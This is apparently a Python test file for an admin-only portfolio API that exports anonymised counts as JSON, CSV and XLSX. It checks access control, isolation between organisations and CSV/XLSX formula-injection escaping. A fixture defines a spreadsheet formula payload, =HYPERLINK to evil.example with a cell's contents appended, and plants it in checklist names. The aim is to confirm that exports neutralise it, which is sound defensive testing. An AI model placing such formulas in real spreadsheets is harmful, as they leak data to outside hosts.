"""The portfolio over HTTP: for admins, in numbers, in three formats, and never a name of an initiative or a formula."""

import csv
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from app.domain.access import OrganisationRole, Scope
from app.settings import Settings
from tests.api.houses import House, running
from tests.checklist.builders import CONTENTS, STATED, write_checklist

WATER = {"title": "Secret river dialogue", "purpose": {"statement": "Talks about water"}}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PATHS = ("/v1/portfolio", "/v1/portfolio/days", "/v1/portfolio/clusters")
FORMULA = '=HYPERLINK("https://evil.example?a="&A1)'
every_path = pytest.mark.parametrize("path", PATHS)


async def keep(http: httpx.AsyncClient, **parts: Any) -> str:
    made = await http.post("/v1/initiatives", json={"design": {**WATER, **parts}})
    assert made.status_code == 201
    return str(made.json()["id"])


def check(answer: httpx.Response, check_id: str) -> dict[str, Any]:
    return next(one for one in answer.json()["checks"] if one["id"] == check_id)


async def test_it_follows_everything_that_is_done(http: httpx.AsyncClient) -> None:
    identity = await keep(http)
    await keep(http, purpose={})
    told = await http.get("/v1/portfolio")
    assert (told.status_code, told.json()["designs"], told.json()["elsewhere"]) == (200, 2, 0)
    stated = check(told, "purpose.stated")
    assert {name: stated[name] for name in ("concern", "open", "waived", "weight")} == {
        "concern": 1,
        "open": 1,
        "waived": 0,
        "weight": "essential",
    }
    address = f"/v1/initiatives/{identity}"
    given = await http.put(
        f"{address}/waivers/purpose.stated", json={"reason": "Known to both"}, headers={"If-Match": "*"}
    )
    assert given.status_code in {200, 201}
    assert check(await http.get("/v1/portfolio"), "purpose.stated")["waived"] == 1
    assert (await http.delete(address, headers={"If-Match": "*"})).status_code == 204
    stated = check(await http.get("/v1/portfolio"), "purpose.stated")
    assert (stated["concern"], stated["waived"], stated["open"]) == (0, 0, 1)


@every_path
async def test_it_names_no_initiative_in_any_format(http: httpx.AsyncClient, path: str) -> None:
    identities = [await keep(http) for _ in range(3)]
    for wanted in ("json", "csv", "xlsx"):
        answer = await http.get(path, params={"format": wanted})
        shown = answer.content
        if wanted == "xlsx":
            sheet = load_workbook(BytesIO(shown)).worksheets[0]
            shown = json.dumps([[cell.value for cell in row] for row in sheet.iter_rows()]).encode()
        for secret in ("Secret", "water", *identities):
            assert secret.encode() not in shown


@every_path
async def test_a_format_is_asked_for_by_name_or_by_media_type(http: httpx.AsyncClient, path: str) -> None:
    await keep(http)
    for wanted, media_type in (("json", "application/json"), ("csv", "text/csv"), ("xlsx", XLSX)):
        by_name = await http.get(path, params={"format": wanted})
        by_type = await http.get(path, headers={"Accept": media_type})
        assert (by_name.status_code, by_name.content) == (200, by_type.content)
        assert by_name.headers["content-type"].partition(";")[0] == media_type
        assert by_name.headers["vary"] == "Accept"
        named = by_name.headers.get("content-disposition")
        name = path.removeprefix("/v1/").replace("/", "-")
        assert named == (None if wanted == "json" else f'attachment; filename="{name}.{wanted}"')
        again = await http.get(path, params={"format": wanted}, headers={"If-None-Match": by_name.headers["etag"]})
        assert (again.status_code, again.content) == (304, b"")
    assert (await http.get(path, params={"format": "pdf"})).status_code == 422
    assert (await http.get(path, headers={"Accept": "text/html"})).status_code == 406


@every_path
async def test_it_is_for_admins_whose_key_may_read(house: House, path: str) -> None:
    member = await house.add("Ben")
    assert (await member.http.get(path)).status_code == 403
    admin = await house.add("Cleo", OrganisationRole.ADMIN)
    assert (await admin.http.get(path)).status_code == 200
    writer = await house.with_key(admin.id, frozenset({Scope.WRITE}))
    assert (await writer.http.get(path)).status_code == 403


@every_path
async def test_another_organisation_is_never_counted(house: House, neighbours: House, path: str) -> None:
    for _ in range(3):
        await keep(neighbours.first.http)
    told = (await house.first.http.get(path)).json()
    assert (told.get("designs", 0), told.get("elsewhere", 0), told.get("items", [])) == (0, 0, [])


async def test_days_are_a_list_with_pages(http: httpx.AsyncClient) -> None:
    await keep(http)
    today = datetime.now(UTC).date().isoformat()
    told = (await http.get("/v1/portfolio/days")).json()
    assert [(each["day"], each["designs"]) for each in told["items"]] == [(today, 1)]
    assert (await http.get("/v1/portfolio/days", params={"to": "2020-01-01"})).json()["items"] == []
    assert len((await http.get("/v1/portfolio/days", params={"from": today, "to": today})).json()["items"]) == 1
    for query in ({"from": "2021-01-01", "to": "2020-01-01"}, {"from": "soon"}, {"limit": "101"}, {"cursor": "x"}):
        assert (await http.get("/v1/portfolio/days", params=query)).status_code == 422, query


async def test_clusters_say_what_occurs_together_and_how_many_were_compared(http: httpx.AsyncClient) -> None:
    for _ in range(2):
        await keep(http, funding={"budget": {"amount": "100.00", "currency": "EUR"}, "sources": [{"name": "A side"}]})
    await keep(http, purpose={"statement": "Agree, by spring, three ways of sharing the wells in dry years"})
    told = (await http.get("/v1/portfolio/clusters", params={"limit": 3})).json()
    assert (told["designs"], told["compared"]) == (3, 3)
    assert len(told["items"]) <= 3
    assert all(pair["together"] >= 2 and 0 < pair["share"] <= 1 for pair in told["items"])


async def test_a_checklist_is_asked_for_by_name_or_is_not_there(http: httpx.AsyncClient) -> None:
    told = (await http.get("/v1/portfolio", params={"checklist": "disclosure@1"})).json()
    assert (told["checklist"]["name"], told["designs"]) == ("disclosure", 0)
    assert (await http.get("/v1/portfolio", params={"checklist": "nobodys"})).status_code == 404


@pytest.fixture
async def hostile(tmp_path: Path) -> AsyncIterator[httpx.AsyncClient]:
    """Somebody of a service whose own checklist asks in formulas."""
    stated = STATED.replace("question: Have", f"question: '{FORMULA} Have")
    contents = CONTENTS.replace("name: Purpose", f"name: '{FORMULA}'").replace("name: People", 'name: "\\t+1+1"')
    write_checklist(tmp_path / "own" / "questions", contents=contents, stated=stated.replace("for?", "for?'", 1))
    settings = Settings(
        data_dir=tmp_path / "data", access_log=False, checklists=tmp_path / "own", adopted_checklist="two-questions"
    )
    async with running(settings) as (app, _):
        yield (await House.founded(app)).first.http


@every_path
async def test_no_cell_is_a_formula_however_a_checklist_asks(hostile: httpx.AsyncClient, path: str) -> None:
    for _ in range(2):
        await keep(hostile, approach="hard", participation={"participants": [{"code": "N1", "status": "declined"}]})
    assert FORMULA in json.dumps((await hostile.get(path)).json(), ensure_ascii=False).replace('\\"', '"') or (
        path == "/v1/portfolio/days"
    )
    text = (await hostile.get(path, params={"format": "csv"})).text
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    assert any(cell.startswith(f"'{FORMULA}") for cell in cells)
    assert not [cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "-", "@", "\t"}]
    (sheet,) = load_workbook(BytesIO((await hostile.get(path, params={"format": "xlsx"})).content)).worksheets
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s", "n"}
    assert any(str(cell.value).startswith(FORMULA) for row in sheet.iter_rows() for cell in row)
